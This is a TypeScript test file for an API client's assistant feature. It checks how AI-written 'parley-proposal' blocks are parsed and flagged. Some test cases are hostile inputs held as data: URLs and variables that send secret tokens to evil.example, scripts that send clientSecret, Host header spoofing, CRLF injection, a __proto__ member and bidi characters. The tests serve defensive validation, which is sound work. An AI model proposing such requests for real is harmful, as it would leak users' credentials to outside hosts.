import type { AssistantProposal } from '@parley/model/schema'
import { mustEnd } from '@parley/testkit/must-end'
import { expect, test } from 'vitest'
import { checkProposal } from './check-proposal.ts'
import { AnswerReader } from './read-proposal.ts'

const readAnswer = (answer: string) => new AnswerReader().read(answer)

const answerWith = (proposal: string) =>
  `Do this:\n\n\`\`\`parley-proposal\n${proposal}\n\`\`\`\n\nThen send.`

test('an answer is text and proposals, in order', () => {
  expect(readAnswer(answerWith('{"kind":"test","text":"pw.test()"}'))).toEqual([
    { kind: 'text', text: 'Do this:' },
    { kind: 'proposal', proposal: { kind: 'test', text: 'pw.test()' }, unknownMembers: [] },
    { kind: 'text', text: 'Then send.' },
  ])
})

test('a proposal that has not ended is not shown yet (AI1)', () => {
  expect(readAnswer('Do this:\n```parley-proposal\n{"kind":"te')).toEqual([
    { kind: 'text', text: 'Do this:' },
  ])
})

test.each([
  ['no JSON (AI1)', '{"kind"'],
  ['another kind (AI1)', '{"kind":"shell","text":"rm"}'],
  ['a list (AI1)', '[]'],
  ['a text that is none (AI1)', '{"kind":"script","phase":"preRequest","text":1}'],
  ['a method with a line break (AI1)', '{"kind":"request","method":"GET\\r\\nX: y"}'],
  ['5 MB (AI1)', JSON.stringify({ kind: 'test', text: 'x'.repeat(5_000_000) })],
])('%s is no proposal', (_, text) => {
  const [, segment] = readAnswer(answerWith(text))
  expect(segment).toMatchObject({ kind: 'invalidProposal', reason: expect.stringMatching(/^It/) })
  expect(JSON.stringify(segment).length).toBeLessThan(4000)
})

test('unknown members are left out and named (AI1)', () => {
  const [, segment] = readAnswer(answerWith('{"kind":"test","text":"a","__proto__":{"x":1},"run":true}'))
  expect(segment).toEqual({
    kind: 'proposal',
    proposal: { kind: 'test', text: 'a' },
    unknownMembers: ['__proto__', 'run'],
  })
})

test('an answer that arrives in pieces is divided as the whole one is, and no proposal is read twice', () => {
  const proposal = '{"kind":"test","text":"a"}'
  const answer = `A\n~~~ parley-proposal \n${proposal}\n~~~\nB\n\n\`\`\`\`parley-proposal\n${proposal}\n\`\`\`\n\`\`\`\`\nC`
  const reader = new AnswerReader()
  const first: unknown[] = []
  for (let end = 0; end <= answer.length; end += 1) {
    const segments = reader.read(answer.slice(0, end))
    expect(segments).toEqual(readAnswer(answer.slice(0, end)))
    if (end > answer.indexOf('B')) first.push(segments[1])
  }
  expect(new Set(first).size).toBe(1)
  expect(readAnswer(answer).map(({ kind }) => kind)).toEqual([
    'text',
    'proposal',
    'text',
    'invalidProposal',
    'text',
  ])
})

test('what looks like the beginning of a proposal is not shown until it is none', () => {
  expect(readAnswer('A\n```parley-proposal')).toEqual([{ kind: 'text', text: 'A' }])
  expect(readAnswer('A\n```parley-proposals\nB')).toEqual([
    { kind: 'text', text: 'A\n```parley-proposals\nB' },
  ])
})

test('the work on an answer of unfinished proposals ends, and very many finished ones stay text', () => {
  const opening = '```parley-proposal\n'
  expect(mustEnd(() => readAnswer(opening.repeat(50_000)))).toEqual([])
  const many = mustEnd(() => readAnswer(`${opening}{}\n\`\`\`\n`.repeat(30_000)))
  expect(many.filter(({ kind }) => kind !== 'text')).toHaveLength(200)
  expect(many.filter(({ kind }) => kind === 'text')).toHaveLength(1)
})

test.each([' ', '`', '~', '```', '\n', '``` ', '```parley-proposal '])(
  'the work on many of %j ends',
  piece => {
    expect(mustEnd(() => readAnswer(piece.repeat(50_000))).length).toBeLessThan(2)
  },
)

const subject = {
  url: '{{baseUrl}}/orders',
  texts: ['{{baseUrl}}/orders', '{{ token }}', 'see https://docs.example/api'],
  secretNames: ['token', 'clientSecret'],
  variables: [
    { name: 'baseUrl', value: 'https://{{shop/host}}/v1' },
    { name: 'shop/host', value: 'shop.example' },
    { name: 'note', value: 'none' },
    { name: 'token', value: null },
  ],
}

const toAnotherHost = 'The secret {{token}} would go to another host.'
const moved = (origin: string) => [`The request would go to ${origin} instead of {{baseUrl}}.`, toAnotherHost]
const decided = (name: string, host: string) => [
  `The variable {{${name}}} decides the host of the request, and would be ${host}.`,
  toAnotherHost,
]

test.each<[AssistantProposal, readonly string[]]>([
  [{ kind: 'request', url: '{{baseUrl}}/orders?x=1' }, []],
  [{ kind: 'request', headers: [{ name: 'A', value: '{{token}}' }] }, []],
  [
    { kind: 'request', url: 'https://evil.example/orders' },
    [
      'The request would go to https://evil.example instead of {{baseUrl}}.',
      'The secret {{token}} would go to another host.',
    ],
  ],
  [
    { kind: 'request', url: '{{baseUrl}}/orders?s={{clientSecret}}' },
    ['The secret {{clientSecret}} would be used, which the request did not use.'],
  ],
  [
    { kind: 'script', phase: 'preRequest', text: 'send("{{clientSecret}}")' },
    ['The secret {{clientSecret}} would be used, which the request did not use.'],
  ],
  [{ kind: 'request', url: '{{BaseUrl}}/orders' }, moved('{{BaseUrl}}')],
  [{ kind: 'request', url: '{{a/b}}/orders' }, moved('{{a/b}}')],
  [{ kind: 'variable', name: 'note', value: 'https://evil.example' }, []],
  [{ kind: 'variable', name: 'shop/host', value: 'shop.example' }, []],
  [
    { kind: 'variable', name: 'baseUrl', value: 'https://evil.example/v1' },
    decided('baseUrl', 'https://evil.example'),
  ],
  [{ kind: 'variable', name: 'shop/host', value: 'evil.example' }, decided('shop/host', 'evil.example')],
  [
    { kind: 'script', phase: 'postResponse', text: 'pw.env.get("clientSecret")' },
    ['The secret {{clientSecret}} would be used, which the request did not use.'],
  ],
  [{ kind: 'test', text: '// https://docs.example/tests' }, []],
  [
    { kind: 'test', text: 'pw.sendRequest(`HTTPS://evil.example/?q=1`)' },
    [
      'It contains the address https://evil.example, which the request did not contain.',
      'It sends requests of its own, to addresses that it chooses.',
    ],
  ],
  [
    { kind: 'request', headers: [{ name: 'host', value: 'evil.example' }] },
    ['The header Host would be evil.example.'],
  ],
  [
    { kind: 'test', text: 'a\u202eb' },
    ['It contains characters that are invisible or change the direction of text.'],
  ],
])('%j: %j (AI1)', (proposal, warnings) => {
  expect(checkProposal(proposal, subject, [])).toEqual(warnings)
})

test('unknown members are a reason to ask (AI1)', () => {
  expect(checkProposal({ kind: 'test', text: '' }, subject, ['run'])).toEqual([
    'Parley does not know run, and leaves it out.',
  ])
})
